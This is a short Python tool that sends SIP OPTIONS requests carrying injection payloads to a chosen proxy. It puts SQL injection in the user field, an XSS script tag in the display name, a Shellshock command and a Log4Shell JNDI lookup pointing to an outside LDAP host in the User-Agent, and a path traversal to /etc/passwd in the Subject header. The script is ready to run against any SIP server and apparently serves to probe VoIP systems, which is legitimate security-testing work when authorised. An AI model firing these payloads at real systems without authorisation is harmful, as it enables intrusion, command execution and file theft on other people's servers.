"""Requests with injection payloads in fields that people choose. Usage: inject.py OWN-ADDRESS PROXY"""
import socket
import sys
import time

PAYLOADS = [
    ("user", "1%27%20OR%20%271%27%3D%271"),
    ("display", "<script>alert(1)</script>"),
    ("agent", "() { :;}; /bin/bash -c 'id'"),
    ("agent", "${jndi:ldap://198.18.0.66/a}"),
    ("subject", "../../../../etc/passwd"),
]


def request(own, proxy, n, where, payload):
    user = payload if where == "user" else "100"
    display = payload if where == "display" else "Reception"
    agent = payload if where == "agent" else "phone 1.0"
    subject = f"Subject: {payload}\r\n" if where == "subject" else ""
    return (f"OPTIONS sip:{user}@{proxy} SIP/2.0\r\nVia: SIP/2.0/UDP {own}:5060;branch=z9hG4bKinject{n}\r\n"
            f"Max-Forwards: 70\r\nFrom: \"{display}\" <sip:caller@{own}>;tag=i{n}\r\nTo: <sip:100@{proxy}>\r\n"
            f"Call-ID: inject-{n}@{own}\r\nCSeq: 1 OPTIONS\r\nUser-Agent: {agent}\r\n{subject}"
            f"Content-Length: 0\r\n\r\n")


def main():
    own, proxy = sys.argv[1:3]
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((own, 5060))
    for n, (where, payload) in enumerate(PAYLOADS):
        s.sendto(request(own, proxy, n, where, payload).encode(), (proxy, 5060))
        time.sleep(0.2)


if __name__ == "__main__":
    main()
